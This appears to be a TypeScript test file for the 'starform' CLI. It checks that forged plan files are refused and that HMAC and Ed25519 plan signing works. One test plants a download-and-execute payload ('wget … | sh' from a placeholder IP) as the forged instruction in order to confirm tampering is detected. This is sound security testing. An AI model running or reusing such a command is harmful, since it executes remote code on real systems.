// Forged and signed plans through the real bin/starform (issue 18, item 3). A plan whose
// instructions were edited and whose checksum was recomputed is refused by `show` and by
// `apply` (what show renders is what apply runs; edit both consistently and show displays
// the payload). With a plan signing key configured — an HMAC secret in
// STARFORM_PLAN_SIGNING_KEY, or an Ed25519 PEM key via --signing-key-file /
// STARFORM_PLAN_SIGNING_KEY_FILE — `plan --out` signs, `show` says so, and `apply` refuses
// an unsigned, tampered or otherwise-signed plan without touching the state, and applies
// a good one. The plans here change nothing (the deps package against the state its first
// apply leads to), so no engine is needed; plan files are created 0600.
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { generateKeyPairSync } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { jsonDigest } from '../../lib/util/hash.js';
import { formatJson, type JsonObject } from '../../lib/util/json.js';

const root = fileURLToPath(new URL('../../../', import.meta.url));
const bin = join(root, 'bin', 'starform');
const pkg = (name: string) => join(root, 'fixtures', 'packages', name);
const SECRET = 'ci-plan-signing-secret-0123456789';

interface Run {
  code: number;
  stdout: string;
  stderr: string;
}

function starform(args: string[], cwd: string, env: Record<string, string> = {}): Run {
  const base: NodeJS.ProcessEnv = { ...process.env, NO_COLOR: '1', CI: '1', DOCKER_HOST: `unix://${join(cwd, 'no-engine.sock')}`, ...env };
  delete base['STARFORM_PLAN_SIGNING_KEY'];
  delete base['STARFORM_PLAN_SIGNING_KEY_FILE'];
  const r = spawnSync(process.execPath, [bin, ...args], { cwd, encoding: 'utf8', env: { ...base, ...env } });
  return { code: r.status ?? -1, stdout: r.stdout, stderr: r.stderr };
}

/** Edits a plan file's JSON and recomputes its checksum, keeping its signature. */
function forge(path: string, edit: (raw: Record<string, unknown>) => void): void {
  const raw = JSON.parse(readFileSync(path, 'utf8')) as Record<string, unknown>;
  edit(raw);
  const { checksum: _old, signature, ...body } = raw;
  writeFileSync(
    path,
    formatJson({ ...(body as JsonObject), checksum: jsonDigest(body as JsonObject), ...(signature ? { signature: signature as JsonObject } : {}) }),
  );
}

function assertRefused(r: Run, pattern: RegExp): void {
  assert.equal(r.code, 1, `exit code 1 expected; stdout:\n${r.stdout}\nstderr:\n${r.stderr}`);
  assert.match(r.stderr, pattern);
  assert.doesNotMatch(r.stderr, /internal error/);
}

describe('cli: forged and signed plans', function () {
  this.timeout(120_000);
  let dir: string;
  let state: string;
  beforeEach(() => {
    dir = mkdtempSync(join(tmpdir(), 'starform-cli-signing-'));
    state = join(dir, 'starform.state.json');
    writeFileSync(state, readFileSync(join(root, 'test', 'golden', 'states', 'deps.state.json')));
  });
  afterEach(() => rmSync(dir, { recursive: true, force: true }));

  it('show and apply refuse a plan whose instruction was edited (checksum recomputed); an edit of both shows the payload', () => {
    const plan = join(dir, 'change.plan');
    assert.equal(starform(['plan', pkg('checks'), '--state', join(dir, 'new.json'), '--out', plan], dir).code, 0);
    assert.equal(statSync(plan).mode & 0o777, 0o600, 'plan files are created 0600');
    const payload = ['sh', '-c', 'wget -q -O- http://198.51.100.7/x | sh'];
    // The file shows each configuration once (a change shows its instruction's args); a
    // forger who adds an `after` with the reviewed arguments over edited ones is refused.
    forge(plan, (raw) => {
      const ins = (raw['instructions'] as { id: string; kind: string; args: { recipe: { command: string[] } } }[]).find((i) => i.kind === 'exec')!;
      const change = (raw['changes'] as { step_id: string; after?: unknown }[]).find((c) => c.step_id === ins.id)!;
      assert.equal(change.after, undefined, 'the plan file does not repeat the arguments in the change');
      change.after = structuredClone(ins.args);
      ins.args.recipe.command = payload;
    });
    const shown = starform(['show', plan], dir);
    assertRefused(
      shown,
      /change\.plan: not a valid plan file \(format version 1\):\n {2}- changes\[\d+\] \(step "exec\.[0-9a-f]{12}"\): shows other arguments than its instruction runs/,
    );
    assertRefused(starform(['apply', plan, '--state', join(dir, 'new.json')], dir), /shows other arguments than its instruction runs/);

    forge(plan, (raw) => {
      const ins = (raw['instructions'] as { id: string; kind: string; args: JsonObject }[]).find((i) => i.kind === 'exec')!;
      const change = (raw['changes'] as { step_id: string; after: JsonObject }[]).find((c) => c.step_id === ins.id)!;
      change.after = ins.args;
    });
    const visible = starform(['show', plan], dir);
    assert.equal(visible.code, 0, visible.stderr);
    assert.ok(visible.stdout.includes('198.51.100.7'), 'what apply would run is what show displays');
    assert.match(visible.stdout, /Not signed\.\n$/);
  });

  const keys: [string, () => { sign: Record<string, string>; verify: Record<string, string>; wrong: Record<string, string>; algorithm: string }][] = [
    [
      'HMAC-SHA256 (STARFORM_PLAN_SIGNING_KEY)',
      () => ({
        sign: { STARFORM_PLAN_SIGNING_KEY: SECRET },
        verify: { STARFORM_PLAN_SIGNING_KEY: SECRET },
        wrong: { STARFORM_PLAN_SIGNING_KEY: `${SECRET}-other` },
        algorithm: 'hmac-sha256',
      }),
    ],
    [
      'Ed25519 (STARFORM_PLAN_SIGNING_KEY_FILE, public key to verify)',
      () => {
        const write = (name: string, text: string): string => {
          writeFileSync(join(dir, name), text);
          return join(dir, name);
        };
        const mine = generateKeyPairSync('ed25519');
        const theirs = generateKeyPairSync('ed25519');
        return {
          sign: { STARFORM_PLAN_SIGNING_KEY_FILE: write('plan.pem', mine.privateKey.export({ type: 'pkcs8', format: 'pem' }).toString()) },
          verify: { STARFORM_PLAN_SIGNING_KEY_FILE: write('plan.pub.pem', mine.publicKey.export({ type: 'spki', format: 'pem' }).toString()) },
          wrong: { STARFORM_PLAN_SIGNING_KEY_FILE: write('other.pub.pem', theirs.publicKey.export({ type: 'spki', format: 'pem' }).toString()) },
          algorithm: 'ed25519',
        };
      },
    ],
  ];

  for (const [name, make] of keys) {
    it(`${name}: plan signs, show says so, apply refuses unsigned, tampered and wrong-key plans and applies a good one`, () => {
      const k = make();
      const signed = join(dir, 'signed.plan');
      const unsigned = join(dir, 'unsigned.plan');
      const planArgs = [pkg('deps'), '--state', state, '--refresh=false'];
      const made = starform(['plan', ...planArgs, '--out', signed], dir, k.sign);
      assert.equal(made.code, 0, made.stderr);
      assert.match(made.stdout, /Saved the plan to \S+signed\.plan \(signed with key (hmac|ed25519):[0-9a-f]{16}\)/);
      assert.equal(starform(['plan', ...planArgs, '--out', unsigned], dir).code, 0);
      const file = JSON.parse(readFileSync(signed, 'utf8')) as { signature: { algorithm: string; key_id: string } };
      assert.equal(file.signature.algorithm, k.algorithm);

      const show = starform(['show', signed], dir, k.verify);
      assert.equal(show.code, 0, show.stderr);
      assert.match(show.stdout, new RegExp(`Signed \\(${k.algorithm}, key ${file.signature.key_id}\\); the signature verifies with the configured key\\.\\n$`));
      assert.match(starform(['show', signed], dir).stdout, /; not verified: no plan signing key is configured\.\n$/);
      assert.match(starform(['show', signed], dir, k.wrong).stdout, /the signature does NOT verify with the configured key/);
      assert.match(starform(['show', unsigned], dir, k.verify).stdout, /Not signed: apply with the configured key \(\S+\) refuses it\.\n$/);
      const json = JSON.parse(starform(['show', signed, '--json'], dir, k.verify).stdout) as { signature: unknown };
      assert.deepEqual(json.signature, { algorithm: k.algorithm, key_id: file.signature.key_id, verified: true });
      assert.match(starform(['show', signed, '--markdown'], dir, k.verify).stdout, /Signed \(.*\); the signature verifies/);

      const before = readFileSync(state);
      assertRefused(
        starform(['apply', unsigned, '--state', state], dir, k.verify),
        /unsigned\.plan: the plan is not signed, and a plan signing key is configured/,
      );
      assertRefused(starform(['apply', signed, '--state', state], dir, k.wrong), /signed\.plan: the plan is signed with another key/);
      const tampered = join(dir, 'tampered.plan');
      writeFileSync(tampered, readFileSync(signed));
      forge(tampered, (raw) => {
        (raw['outputs'] as Record<string, unknown>)['extra'] = 'forged';
      });
      assertRefused(
        starform(['apply', tampered, '--state', state], dir, k.verify),
        /tampered\.plan: the plan's signature does not verify with the configured key/,
      );
      assert.deepEqual(readFileSync(state), before, 'no refused plan touched the state');

      const good = starform(['apply', signed, '--state', state], dir, k.verify);
      assert.equal(good.code, 0, good.stderr);
      assert.match(good.stdout, /Apply complete: 0 created, 0 replaced, 0 run, 0 deleted\./);
    });
  }

  it('refuses to sign with a public key, and names a missing key file, before planning', () => {
    const pub = join(dir, 'k.pub.pem');
    writeFileSync(pub, generateKeyPairSync('ed25519').publicKey.export({ type: 'spki', format: 'pem' }).toString());
    const out = join(dir, 'x.plan');
    assertRefused(
      starform(['plan', pkg('deps'), '--state', state, '--refresh=false', '--out', out, '--signing-key-file', pub], dir),
      /k\.pub\.pem: the plan signing key file holds a public key, which can only verify/,
    );
    assertRefused(starform(['apply', out, '--state', state, '--signing-key-file', join(dir, 'none.pem')], dir), /none\.pem: plan signing key file not found/);
  });
});
